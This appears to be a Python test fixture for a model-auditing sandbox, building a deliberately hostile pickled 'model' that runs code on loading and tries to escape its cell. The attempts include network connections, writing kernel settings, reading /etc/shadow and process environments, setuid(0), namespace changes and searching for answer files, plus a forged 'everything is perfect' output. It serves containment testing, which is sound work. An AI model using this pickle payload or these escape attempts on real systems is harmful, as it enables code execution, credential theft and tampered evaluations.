"""A demonstration that attacks: a model that tries the network, the files and its neighbours, row by row.

Each row of its data names one attempt. The model tries it in its cell and answers `escaped` where it worked and
`contained` where it did not, so its own answers are a second witness beside the receipt.
"""

from __future__ import annotations

import builtins
import pickle
from pathlib import Path
from typing import Any

import pandas as pd

from model_cards.dossier import Dossier
from sandbox.demo import files

ABOUT = "is hostile: a pickle that tries the network, the files and its neighbours from inside its cell."
BEYOND: frozenset[tuple[str, str | None]] = frozenset(
    {("cybersecurity.model_file", None), ("fairness.protected_input", "attempt")}
)
CLASSES = ("escaped", "contained")
ROWS_EACH = 40

ATTEMPTS = {
    "network": "socket.create_connection(('192.0.2.1', 80), timeout=0.2)",
    "network, version 6": "socket.socket(socket.AF_INET6, socket.SOCK_STREAM)",
    "name lookup": "socket.getaddrinfo('example.org', 80)",
    "write to the system": "open('/usr/hostile', 'w')",
    "write beside itself": "open('/c/model/hostile', 'w')",
    "kernel settings": "open('/proc/sys/kernel/core_pattern', 'w')",
    "password file": "open('/etc/shadow').read()",
    "the worker's secrets": "open('/proc/1/environ').read().index('AIACT')",
    "a neighbour's process": "[p for p in os.listdir('/proc') if p.isdigit() and int(p) > 400][0]",
    "become another user": "os.setuid(0)",
    "a new namespace": "os.unshare(0x10000000) if hasattr(os, 'unshare') else _missing()",
    "the labels": "[f for top in ('/c', '/tmp', '/var') for _, _, fs in os.walk(top) for f in fs if f in LABELS][0]",
}
"""What is tried, and how: an expression that raises where the wall holds."""

SOURCE = f"""
import os, socket
import numpy as np

ATTEMPTS = {ATTEMPTS!r}

LABELS = {{'attempts.csv', 'submission.yaml', 'answers.yaml'}}

def _missing():
    raise OSError('no such call in this Python')

class Hostile:
    classes_ = np.array(['contained', 'escaped'])

    def __init__(self):
        self.seen = {{}}

    def tried(self, name):
        if name not in self.seen:
            try:
                eval(ATTEMPTS[name], globals())
                self.seen[name] = 'escaped'
            except BaseException:
                self.seen[name] = 'contained'
        return self.seen[name]

    def predict(self, table):
        print('forged result: everything is perfect')
        return np.array([self.tried(name) for name in table['attempt']])
"""


class _Payload:
    """What a pickle can hide: loading it runs the source above."""

    def __reduce__(self) -> tuple[Any, ...]:
        run = f"[ns := {{'__name__': 'hostile'}}, exec({SOURCE!r}, ns), ns['Hostile']()][-1]"
        return builtins.eval, (run,)


def build(folder: Path) -> None:
    """Write the submission: a pickle that executes code on loading, and a table of attempts."""
    folder.mkdir(parents=True)
    (folder / "model.pkl").write_bytes(pickle.dumps(_Payload(), protocol=4))
    rows = [{"attempt": name, "row": number} for name in ATTEMPTS for number in range(ROWS_EACH)]
    pd.DataFrame(rows).to_csv(folder / "attempts.csv", index=False)
    files.write(
        folder,
        submission={
            "format": 1,
            "system": {
                "name": "Hostile model (demonstration)",
                "version": "1",
                "provider": {"name": "Nobody", "country": "NL", "size": "micro"},
                "roles": ["provider"],
                "public_body": False,
                "intended_purpose": "Tries to get out of its cell, and says for each attempt whether it worked.",
            },
            "model": {"file": "model.pkl", "output": "label", "allow_code": True},
            "data": {
                "file": "attempts.csv",
                "task": "binary",
                "classes": list(CLASSES),
                "favourable": "contained",
                "columns": {"attempt": "feature+group", "row": "ignore"},
            },
            "answers": "answers.yaml",
            "limits": {
                "fairness.selection_rate.adverse_ratio": {
                    "at_least": 0.0,
                    "reason": "The groups are attempts, not people; that none of them escapes is the question here.",
                }
            },
        },
        answers=files.ORDINARY,
    )


def told(dossier: Dossier) -> list[str]:
    """Say per attempt how often the model answered that it escaped."""
    finding = dossier.finding("fairness.selection_rate", "attempt")
    if finding is None or not finding.groups:
        return ["the model gave no answers"]
    lines = []
    for group in finding.groups:
        rate = next((m for m in group.measures if m.name == "selection_rate"), None)
        contained = rate is not None and rate.value == 1.0
        lines.append(f"{group.group['attempt']!s:<24} {'contained' if contained else 'ESCAPED'}, {group.rows} times")
    return lines
